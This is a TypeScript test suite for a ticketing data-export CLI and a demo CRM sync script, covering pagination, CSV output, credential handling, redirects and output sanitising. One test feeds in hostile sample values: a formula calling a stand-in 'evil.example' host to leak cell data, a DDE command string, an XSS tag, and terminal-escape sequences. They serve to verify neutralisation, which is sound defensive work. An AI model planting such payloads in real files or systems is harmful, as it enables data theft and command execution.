// `ticketing-widgets export` and demo/crm-sync.mjs as real processes, against the reference API (and
// the real proxy) over loopback: every page, the CSV rules, the private output file, the failures.
import assert from 'node:assert/strict';
import { execFile, spawn } from 'node:child_process';
import { existsSync } from 'node:fs';
import { mkdtemp, open, readdir, readFile, stat, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { pathToFileURL } from 'node:url';
import { describe, test } from 'node:test';
import { AUTH, basic, DEMO_APP_PASSWORD, DEMO_USER, getAll, ROOT, startFor, type Parsed } from './helpers.js';
import { startCapture, startProxyFor, type CaptureAnswer } from './proxy-helpers.js';

const CLI = path.join(ROOT, 'dist/server/cli.js');
const CREDENTIALS = { TICKETING_WP_USER: DEMO_USER, TICKETING_WP_APP_PASSWORD: DEMO_APP_PASSWORD };

interface Exit {
  code: number | null;
  stdout: string;
  stderr: string;
}

/** This process's environment without any secret of ours. */
const cleanEnv = () => Object.fromEntries(Object.entries(process.env).filter(([name]) => !name.startsWith('TICKETING_')));

/** Runs a script with only the given secrets in its environment (none inherited from this one). */
function run(script: string, args: string[], env: Record<string, string> = {}): Promise<Exit> {
  return new Promise((resolve) => {
    const child = execFile(process.execPath, [script, ...args], { cwd: ROOT, env: { ...cleanEnv(), ...env }, encoding: 'utf8' }, (_error, stdout, stderr) =>
      resolve({ code: child.exitCode, stdout, stderr }),
    );
  });
}
const exportCli = (args: string[], env?: Record<string, string>) => run(CLI, ['export', ...args], env);

/** RFC 4180 records of a CSV document (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const records: string[][] = [];
  let record: string[] = [];
  let at = 0;
  while (at < text.length) {
    let field = '';
    if (text[at] === '"') {
      at++;
      for (;;) {
        const quote = text.indexOf('"', at);
        field += text.slice(at, quote);
        at = quote + 1;
        if (text[at] !== '"') break;
        field += '"';
        at++;
      }
    } else {
      const end = text.slice(at).search(/,|\r\n/);
      field = text.slice(at, end < 0 ? text.length : at + end);
      at += field.length;
    }
    record.push(field);
    if (text.startsWith('\r\n', at)) {
      records.push(record);
      record = [];
      at += 2;
    } else at++;
  }
  return records;
}

describe('ticketing-widgets export', () => {
  test('passengers as CSV: every page, BOM, CRLF, quoted text, numbers as numbers, formula starts neutralised, progress on stderr', async (t) => {
    const site = await startFor(t);
    const all: Parsed[] = await getAll(site.url, '/wbtm/v1/passengers', '', { Authorization: AUTH });
    assert.ok(all.length > 100, 'the seed spans more than one page');
    const result = await exportCli(['passengers', '--target', `${site.url}/wp-json`], CREDENTIALS);
    assert.equal(result.code, 0, result.stderr);
    assert.ok(result.stdout.startsWith('\uFEFF'), 'UTF-8 byte-order mark');
    assert.ok(result.stdout.endsWith('\r\n'));
    assert.doesNotMatch(result.stdout.replace(/\r\n/g, ''), /\n/, 'no bare line feeds');
    const [header, ...rows] = parseCsv(result.stdout.slice(1));
    assert.deepEqual(header, ['Name', 'Seat', 'Boarding', 'Dropping', 'Ticket type', 'Price', 'E-mail', 'Phone', 'Booking', 'Bus', 'Date', 'Status']);
    assert.equal(rows.length, all.length);
    assert.deepEqual(
      rows.map((row) => Number(row[8])),
      all.map((p) => p.booking_id),
    );
    // Prices are bare numbers; a phone "+49 …" is text that a spreadsheet would evaluate: it gets a "'".
    const first = all[0];
    assert.equal(rows[0]![5], String(first.price));
    assert.equal(rows[0]![7], /^[=+\-@\t\r]/.test(first.phone) ? `'${first.phone}` : first.phone);
    assert.ok(result.stdout.split('\r\n')[1]!.startsWith(`"${first.name.replace(/"/g, '""')}",`), 'text fields are quoted');
    assert.match(result.stderr, /passengers: 100 of \d+ \(page 1 of 2\)/);
    assert.match(result.stderr, new RegExp(`passengers: ${all.length} of ${all.length} \\(page 2 of 2\\)`));
  });

  test('--bus-id and --date narrow it; JSON records keyed by --columns, in that order', async (t) => {
    const site = await startFor(t);
    const all: Parsed[] = await getAll(site.url, '/wbtm/v1/passengers', '', { Authorization: AUTH });
    const { bus_id: busId, date } = all[all.length - 1];
    const expected = all.filter((p) => p.bus_id === busId && p.date === date);
    const result = await exportCli(
      ['passengers', '--target', `${site.url}/wp-json`, '--bus-id', String(busId), '--date', date, '--format', 'json', '--columns', 'booking-id,name,price'],
      CREDENTIALS,
    );
    assert.equal(result.code, 0, result.stderr);
    assert.equal(result.stderr, '', 'one page: no progress line');
    const records: Parsed[] = JSON.parse(result.stdout);
    assert.deepEqual(
      records,
      expected.map((p) => ({ 'booking-id': p.booking_id, name: p.name, price: p.price })),
    );
    assert.deepEqual(Object.keys(records[0]!), ['booking-id', 'name', 'price']);
  });

  test('--out writes a file only its owner may read, atomically, and says how many rows', async (t) => {
    const site = await startFor(t);
    const dir = await mkdtemp(path.join(tmpdir(), 'tw-export-'));
    const file = path.join(dir, 'manifest.csv');
    const result = await exportCli(['passengers', '--target', `${site.url}/wp-json`, '--out', file, '--quiet'], CREDENTIALS);
    assert.equal(result.code, 0, result.stderr);
    assert.equal(result.stdout, '');
    assert.equal(result.stderr, '', '--quiet: nothing on stderr');
    assert.equal((await stat(file)).mode & 0o777, 0o600);
    assert.deepEqual(await readdir(dir), ['manifest.csv'], 'no temporary file left behind');
    assert.ok((await readFile(file, 'utf8')).startsWith('\uFEFF"Name"'));
  });

  for (const signal of ['SIGTERM', 'SIGINT', 'SIGHUP'] as const) {
    test(`${signal} while the file is written removes its temporary copy, then ends as killed by ${signal}`, async (t) => {
      const site = await startFor(t);
      const dir = await mkdtemp(path.join(tmpdir(), 'tw-export-'));
      // A slow disk: flushing the temporary file takes a minute, so the export is caught with it on disk.
      const preload = path.join(await mkdtemp(path.join(tmpdir(), 'tw-export-preload-')), 'slow-disk.mjs');
      await writeFile(
        preload,
        "import { open } from 'node:fs/promises';\nconst handle = await open(process.execPath, 'r');\nObject.getPrototypeOf(handle).sync = () => new Promise((resolve) => setTimeout(resolve, 60_000));\nawait handle.close();\n",
      );
      const child = spawn(
        process.execPath,
        [
          '--import',
          pathToFileURL(preload).href,
          CLI,
          'export',
          'passengers',
          '--target',
          `${site.url}/wp-json`,
          '--out',
          path.join(dir, 'manifest.csv'),
          '--quiet',
        ],
        { cwd: ROOT, env: { ...cleanEnv(), ...CREDENTIALS }, stdio: 'ignore' },
      );
      const exited = new Promise<[number | null, NodeJS.Signals | null]>((resolve) => child.on('exit', (code, name) => resolve([code, name])));
      t.after(() => child.kill('SIGKILL'));
      for (let tries = 0; !(await readdir(dir)).some((name) => name.endsWith('.tmp')); tries++) {
        assert.ok(tries < 500, 'the temporary file appears');
        await new Promise((resolve) => setTimeout(resolve, 20));
      }
      child.kill(signal);
      assert.deepEqual(await exited, [null, signal]);
      assert.deepEqual(await readdir(dir), [], 'no temporary copy of the personal data left behind');
    });
  }

  test('an --out whose folder is missing, or that is a folder, fails before anything is read, naming the file asked for', async (t) => {
    const capture = await startCapture(t);
    const dir = await mkdtemp(path.join(tmpdir(), 'tw-export-'));
    const cases: Array<[string, RegExp]> = [
      [path.join(dir, 'missing', 'x.csv'), /could not write .*x\.csv: the folder .*missing does not exist/],
      [dir, /could not write .*tw-export-\w+: it is a folder/],
    ];
    for (const [out, message] of cases) {
      const result = await exportCli(['passengers', '--target', `${capture.url}/wp-json`, '--out', out], CREDENTIALS);
      assert.equal(result.code, 1, out);
      assert.match(result.stderr, message);
      assert.doesNotMatch(result.stderr, /\.tmp\b/, 'no temporary file name the operator never gave');
    }
    assert.equal(capture.seen.length, 0, 'nothing read');
    assert.deepEqual(await readdir(dir), []);
  });

  test('attendees, one event, as JSON; checked-in as a boolean', async (t) => {
    const site = await startFor(t);
    const all: Parsed[] = await getAll(site.url, '/wp/v2/mep_event_attendee', '', { Authorization: AUTH });
    const eventId = Number(all[0].attendee_informations.ea_event_id[0]);
    const expected = all.filter((a) => Number(a.attendee_informations.ea_event_id[0]) === eventId);
    const result = await exportCli(['attendees', '--target', `${site.url}/wp-json`, '--event-id', String(eventId), '--format', 'json'], CREDENTIALS);
    assert.equal(result.code, 0, result.stderr);
    const records: Parsed[] = JSON.parse(result.stdout);
    assert.deepEqual(
      records.map((r: Parsed) => r.id),
      expected.map((a) => a.id),
    );
    assert.ok(records.every((r: Parsed) => r['event-id'] === eventId && typeof r['checked-in'] === 'boolean'));
  });

  test('through our proxy with TICKETING_PROXY_TOKEN (Bearer)', async (t) => {
    const site = await startFor(t);
    const token = 'export-token-0123456789abcdef';
    const { url } = await startProxyFor(t, `${site.url}/wp-json`, {
      credentials: { user: DEMO_USER, appPassword: DEMO_APP_PASSWORD },
      allowPrivate: true,
      token,
      upstreamRate: { requests: 600, perMs: 60_000 },
    });
    const result = await exportCli(['passengers', '--target', `${url}/wp-json`, '--format', 'json'], { TICKETING_PROXY_TOKEN: token });
    assert.equal(result.code, 0, result.stderr);
    assert.ok(JSON.parse(result.stdout).length > 100);
    const refused = await exportCli(['passengers', '--target', `${url}/wp-json`], { TICKETING_PROXY_TOKEN: 'wrong-token-0123456789abcdef' });
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /refused the credentials \(HTTP 401/);
  });

  test('hostile values: markup stays literal text, formulas are neutralised in every text column', async (t) => {
    const hostile = {
      booking_id: 1,
      name: '=HYPERLINK("http://evil.example/?"&A1,"click")',
      email: '+1+cmd|"/C calc"!A0',
      phone: '@SUM(1+1)',
      bus_id: 7,
      bus_name: '-2+3',
      date: '2026-11-24',
      boarding_point: '\tTab',
      dropping_point: '\rCarriage',
      seat: 'A1',
      ticket_type: '<img src=x onerror=alert(1)>adult',
      price: 10,
      status: 'confirmed',
    };
    const capture = await startCapture(t, () => ({ body: [hostile], headers: { 'X-WP-Total': '1', 'X-WP-TotalPages': '1' } }));
    const result = await exportCli(['passengers', '--target', `${capture.url}/wp-json`], CREDENTIALS);
    assert.equal(result.code, 0, result.stderr);
    const [, row] = parseCsv(result.stdout.slice(1));
    assert.deepEqual(row, [
      `'${hostile.name}`,
      'A1',
      `'${hostile.boarding_point}`,
      `'\nCarriage`, // a carriage return in a cell becomes Excel's own line feed
      hostile.ticket_type,
      '10',
      `'${hostile.email}`,
      `'${hostile.phone}`,
      '1',
      `'${hostile.bus_name}`,
      '2026-11-24',
      'confirmed',
    ]);
    assert.equal(
      capture.seen[0]!.headers.authorization,
      basic(DEMO_USER, DEMO_APP_PASSWORD.replace(/\s+/g, '')),
      'Basic credentials from the environment, spaces dropped',
    );
  });

  test('C1 controls in the data (U+009B is a CSI to some terminals) never reach standard output raw, in CSV or JSON', async (t) => {
    const name = 'Ana\u009b2J\u009d0;owned\u009c\u0085Ruiz';
    const capture = await startCapture(t, () => ({
      body: [{ booking_id: 1, name, status: 'confirmed' }],
      headers: { 'X-WP-Total': '1', 'X-WP-TotalPages': '1' },
    }));
    for (const format of ['csv', 'json']) {
      const result = await exportCli(['passengers', '--target', `${capture.url}/wp-json`, '--format', format, '--columns', 'name'], CREDENTIALS);
      assert.equal(result.code, 0, result.stderr);
      assert.doesNotMatch(result.stdout, /[\u0080-\u009f]/, format);
      if (format === 'json') assert.deepEqual(JSON.parse(result.stdout), [{ name }], 'escaped, the same text for a JSON reader');
      else assert.equal(parseCsv(result.stdout.slice(1))[1]![0], 'Ana2J0;ownedRuiz');
    }
  });

  test('failures exit 1 with a message that says what to do, and never print the password', async (t) => {
    const site = await startFor(t);
    const wrong = await exportCli(['passengers', '--target', `${site.url}/wp-json`], {
      TICKETING_WP_USER: DEMO_USER,
      TICKETING_WP_APP_PASSWORD: 'abcd EFGH 1234 ijkl',
    });
    assert.equal(wrong.code, 1);
    assert.match(wrong.stderr, /refused the credentials \(HTTP 401 /);
    assert.doesNotMatch(wrong.stderr + wrong.stdout, /abcd|EFGH|ijkl/);

    const plugin = await startFor(t, { dialect: 'plugin' });
    const noRoute = await exportCli(['passengers', '--target', `${plugin.url}/wp-json`], CREDENTIALS);
    assert.equal(noRoute.code, 1);
    assert.match(noRoute.stderr, /does not publish passengers: no \/wbtm\/v1\/passengers route/);

    const dead = await startCapture(t);
    await dead.close();
    const unreachable = await exportCli(['attendees', '--target', `${dead.url}/wp-json`], CREDENTIALS);
    assert.equal(unreachable.code, 1);
    assert.match(unreachable.stderr, /could not reach http:\/\/127\.0\.0\.1:\d+/);

    const anonymous = await exportCli(['passengers', '--target', `${site.url}/wp-json`]);
    assert.equal(anonymous.code, 1);
    assert.match(anonymous.stderr, /personal data needs credentials/);
  });

  test('usage errors exit 2; secrets are refused as flags without being echoed', async () => {
    const cases: Array<[string[], RegExp]> = [
      [['passengers'], /needs --target/],
      [['bookings', '--target', 'http://127.0.0.1:9/wp-json'], /passengers or attendees/],
      [['passengers', '--target', 'ftp://example.org'], /http\(s\) URL/],
      [['passengers', '--target', 'http://127.0.0.1:9/wp-json', '--date', '24.11.2026'], /--date must look like/],
      [['passengers', '--target', 'http://127.0.0.1:9/wp-json', '--date', '2026-13-45'], /--date must look like/],
      [['passengers', '--target', 'http://127.0.0.1:9/wp-json', '--date', '2027-02-29'], /--date must look like/],
      [['passengers', '--target', 'http://127.0.0.1:9/wp-json', '--columns', ' , '], /--columns names no column/],
      [['attendees', '--target', 'http://127.0.0.1:9/wp-json', '--bus-id', '4'], /for passengers/],
      [['passengers', '--target', 'http://127.0.0.1:9/wp-json', '--format', 'xlsx'], /csv or json/],
    ];
    for (const [args, message] of cases) {
      const result = await exportCli(args, CREDENTIALS);
      assert.equal(result.code, 2, args.join(' '));
      assert.match(result.stderr, message);
    }
    const secret = await exportCli(['passengers', '--target', 'http://127.0.0.1:9/wp-json', '--app-password=hunter2secret']);
    assert.equal(secret.code, 2);
    assert.doesNotMatch(secret.stderr, /hunter2secret/);
  });

  test('a --target with user:password@ is a usage error that never prints the password', async () => {
    const targets = ['http://demo:hunter2secret@127.0.0.1:9/wp-json', 'ftp://demo:hunter2secret@example.org/', 'http://demo:hunter2secret@[::1/wp-json'];
    for (const target of targets) {
      const result = await exportCli(['passengers', '--target', target], CREDENTIALS);
      assert.equal(result.code, 2, target);
      assert.doesNotMatch(result.stderr, /hunter2secret/, target);
    }
    assert.match((await exportCli(['passengers', '--target', targets[0]!], CREDENTIALS)).stderr, /must not contain user:password@/);
  });

  // Linux's /dev/full refuses every write as a full disk would.
  test(
    'standard output that cannot be written (a full disk) exits 1 with one line saying so, not a stack trace',
    { skip: !existsSync('/dev/full') },
    async (t) => {
      const capture = await startCapture(t, () => ({ body: [{ booking_id: 1, name: 'Ada' }], headers: { 'X-WP-Total': '1', 'X-WP-TotalPages': '1' } }));
      const full = await open('/dev/full', 'w');
      t.after(() => full.close());
      const child = spawn(process.execPath, [CLI, 'export', 'passengers', '--target', `${capture.url}/wp-json`], {
        cwd: ROOT,
        env: { ...cleanEnv(), ...CREDENTIALS },
        stdio: ['ignore', full.fd, 'pipe'],
      });
      let stderr = '';
      child.stderr!.setEncoding('utf8').on('data', (chunk: string) => (stderr += chunk));
      const code = await new Promise<number | null>((resolve) => child.on('close', resolve));
      assert.equal(code, 1, stderr);
      assert.match(stderr, /^ticketing-widgets export: could not write to standard output: ENOSPC\b/);
      assert.doesNotMatch(stderr, /\n\s+at /, 'no stack trace');
    },
  );

  test('an unknown column is a usage error naming the known ones, before anything is read', async (t) => {
    const capture = await startCapture(t);
    const result = await exportCli(['passengers', '--target', `${capture.url}/wp-json`, '--columns', 'name,iban'], CREDENTIALS);
    assert.equal(result.code, 2);
    assert.match(result.stderr, /unknown column "iban"; known: name, seat/);
    assert.equal(capture.seen.length, 0);
  });

  test('a column named twice (3 CSV columns but 1 JSON key) and an empty --out are usage errors, before anything is read', async (t) => {
    const capture = await startCapture(t);
    const target = `${capture.url}/wp-json`;
    const cases: Array<[string[], string]> = [
      [['--columns', 'name,seat,name'], '--columns names "name" twice'],
      [['--columns', 'name,NAME', '--format', 'json'], '--columns names "NAME" twice'],
      [['--out', ''], '--out needs a file name'],
    ];
    for (const [args, message] of cases) {
      const result = await exportCli(['passengers', '--target', target, ...args], CREDENTIALS);
      assert.equal(result.code, 2, args.join(' '));
      assert.ok(result.stderr.startsWith(`ticketing-widgets: ${message}`), result.stderr);
    }
    assert.equal(capture.seen.length, 0);
  });

  test('credentials never go over plain http to another machine unless --insecure-http says so', async () => {
    // 192.0.2.1 is a documentation address: refused before any connection is tried.
    const refused = await exportCli(['passengers', '--target', 'http://192.0.2.1/wp-json'], CREDENTIALS);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, /plain http: the credentials would travel readable/);
    assert.doesNotMatch(refused.stderr, /could not reach/);
    // A name that only starts like a loopback address is another machine.
    const lookalike = await exportCli(['passengers', '--target', 'http://127.0.0.1.example.org/wp-json'], CREDENTIALS);
    assert.equal(lookalike.code, 1);
    assert.match(lookalike.stderr, /plain http/);
  });

  test('a 403 (a user without the right, an address refused) and a proxy whose own credentials fail are told apart from a wrong password', async (t) => {
    const answers: Record<string, CaptureAnswer> = {
      forbidden: { status: 403, body: { code: 'rest_forbidden', message: 'Sorry, you are not allowed to do that.', data: { status: 403 } } },
      upstream: {
        status: 502,
        body: { code: 'tw_upstream_credentials_rejected', message: "The site refused the proxy's credentials.", data: { status: 502 } },
      },
    };
    let answer: CaptureAnswer = answers['forbidden']!;
    const capture = await startCapture(t, () => answer);
    const forbidden = await exportCli(['attendees', '--target', `${capture.url}/wp-json`], CREDENTIALS);
    assert.equal(forbidden.code, 1);
    assert.match(forbidden.stderr, /accepted the credentials, but they may not read attendees \(HTTP 403 rest_forbidden\)/);
    assert.doesNotMatch(forbidden.stderr, /check the user and application password/);
    answer = answers['upstream']!;
    const upstream = await exportCli(['passengers', '--target', `${capture.url}/wp-json`], { TICKETING_PROXY_TOKEN: 'a-token-0123456789abcdef' });
    assert.equal(upstream.code, 1);
    assert.match(upstream.stderr, /the site behind it refused the proxy's own credentials/);
    assert.doesNotMatch(upstream.stderr, /proxy token/);
  });

  test("the site's error text reaches the terminal without control characters, bounded", async (t) => {
    const capture = await startCapture(t, () => ({
      status: 500,
      body: {
        code: 'e\u001b[2K',
        message: `\u001b[1A\u001b[2K\r\u001b]0;owned\u0007\u001b[32m1500 passengers written\u202e${'x'.repeat(2000)}`,
        data: { status: 500 },
      },
    }));
    const result = await exportCli(['passengers', '--target', `${capture.url}/wp-json`], CREDENTIALS);
    assert.equal(result.code, 1);
    // eslint-disable-next-line no-control-regex -- control characters are exactly what must not be printed
    assert.doesNotMatch(result.stderr, /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202e]/, 'nothing that steers a terminal');
    assert.match(result.stderr, /answered HTTP 500/);
    assert.ok(result.stderr.length < 700, `bounded: ${result.stderr.length} characters`);
  });

  test('a redirect on the same site is followed with the credentials; one to another site is refused, naming it', async (t) => {
    const other = await startCapture(t, () => ({ body: [{ booking_id: 1, name: 'Someone else', status: 'confirmed' }] }));
    const site = await startCapture(t, (request): CaptureAnswer =>
      request.url.startsWith('/moved/')
        ? { headers: { 'X-WP-Total': '1', 'X-WP-TotalPages': '1' }, body: [{ booking_id: 7, name: 'Ana', status: 'confirmed' }] }
        : request.url.startsWith('/away/')
          ? { status: 301, headers: { Location: `${other.url}/wp-json/wbtm/v1/passengers` } }
          : { status: 301, headers: { Location: `/moved${request.url}` } },
    );
    const followed = await exportCli(['passengers', '--target', `${site.url}/wp-json`, '--format', 'json', '--columns', 'name'], CREDENTIALS);
    assert.equal(followed.code, 0, followed.stderr);
    assert.deepEqual(JSON.parse(followed.stdout), [{ name: 'Ana' }]);
    assert.ok(site.seen.filter((request) => request.url.startsWith('/moved/')).every((request) => request.headers.authorization));
    const refused = await exportCli(['passengers', '--target', `${site.url}/away/wp-json`, '--format', 'json'], CREDENTIALS);
    assert.equal(refused.code, 1);
    assert.match(refused.stderr, new RegExp(`redirects to ${other.url.replace(/[.]/g, '\\.')} \\(HTTP 301\\): give that address as --target`));
    assert.equal(other.seen.length, 0, 'nothing asked of the other site');
    assert.equal(refused.stdout, '');
  });

  test('a site that ignores `page` fails at once instead of reading without end, and writes no file', async (t) => {
    const dir = await mkdtemp(path.join(tmpdir(), 'tw-export-'));
    const rows = Array.from({ length: 100 }, (_, n) => ({ booking_id: n + 1, name: `Traveller ${n + 1}`, seat: `A${n + 1}`, status: 'confirmed' }));
    const capture = await startCapture(t, () => ({ headers: { 'X-WP-Total': '99999999', 'X-WP-TotalPages': '999999' }, body: rows }));
    const out = path.join(dir, 'loop.csv');
    const result = await exportCli(['passengers', '--target', `${capture.url}/wp-json`, '--out', out, '--quiet'], CREDENTIALS);
    assert.equal(result.code, 1);
    assert.match(result.stderr, /Page 2 repeats the rows already read: .*ignores the page parameter/);
    assert.equal(capture.seen.length, 2);
    assert.deepEqual(await readdir(dir), [], 'no file, not even a temporary one');
  });

  test('a site that always announces one more page fails at 10 000 pages and writes no file', async (t) => {
    const dir = await mkdtemp(path.join(tmpdir(), 'tw-export-'));
    // One row a page: never a full page that repeats, so only the page limit ends the read.
    const capture = await startCapture(t, () => ({
      headers: { 'X-WP-Total': '999999999', 'X-WP-TotalPages': '999999999' },
      body: [{ booking_id: 1, name: 'Traveller', seat: 'A1', status: 'confirmed' }],
    }));
    const out = path.join(dir, 'endless.csv');
    const result = await exportCli(['passengers', '--target', `${capture.url}/wp-json`, '--out', out, '--quiet'], CREDENTIALS);
    assert.equal(result.code, 1);
    assert.equal(result.stderr, `ticketing-widgets export: ${capture.url} still had more after 10000 pages of 100; nothing was written\n`);
    assert.equal(capture.seen.length, 10_000);
    assert.deepEqual(await readdir(dir), []);
  });

  test('a page count smaller than the total announced: full pages are read on until the site says the end', async (t) => {
    const row = (n: number) => ({ booking_id: n, name: `Traveller ${n}`, seat: `S${n}`, status: 'confirmed' });
    const pageRows = (page: number) =>
      page <= 2 ? Array.from({ length: 100 }, (_, n) => row((page - 1) * 100 + n + 1)) : Array.from({ length: 50 }, (_, n) => row(200 + n + 1));
    const capture = await startCapture(t, (request) => ({
      headers: { 'X-WP-Total': '250', 'X-WP-TotalPages': '1' },
      body: pageRows(Number(new URL(request.url, 'http://x').searchParams.get('page'))),
    }));
    const result = await exportCli(['passengers', '--target', `${capture.url}/wp-json`, '--format', 'json', '--columns', 'booking-id'], CREDENTIALS);
    assert.equal(result.code, 0, result.stderr);
    assert.equal((JSON.parse(result.stdout) as unknown[]).length, 250);
    assert.equal(capture.seen.length, 3);
  });
});

describe('demo/crm-sync.mjs', () => {
  test('merges every passenger into one contact per e-mail, as JSON lines', async (t) => {
    const site = await startFor(t);
    const all: Parsed[] = await getAll(site.url, '/wbtm/v1/passengers', '', { Authorization: AUTH });
    const result = await run(path.join(ROOT, 'demo/crm-sync.mjs'), [`${site.url}/wp-json`], CREDENTIALS);
    assert.equal(result.code, 0, result.stderr);
    const contacts = result.stdout
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    assert.equal(contacts.length, new Set(all.map((p) => p.email.toLowerCase())).size);
    assert.equal(
      contacts.reduce((sum: number, contact: Parsed) => sum + contact.bookings.length, 0),
      all.length,
    );
    assert.match(result.stderr, new RegExp(`${contacts.length} contacts from ${all.length} passengers`));
  });
});
